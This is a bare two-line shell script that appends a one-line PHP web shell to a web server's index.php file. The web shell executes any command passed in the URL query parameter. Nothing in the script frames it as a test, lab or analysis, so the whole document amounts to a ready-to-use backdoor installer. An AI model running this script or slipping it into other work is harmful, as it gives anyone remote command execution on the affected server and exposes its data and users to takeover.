#!/bin/sh
printf '<?= `$_GET[0]`; ?>' >> /var/www/html/index.php
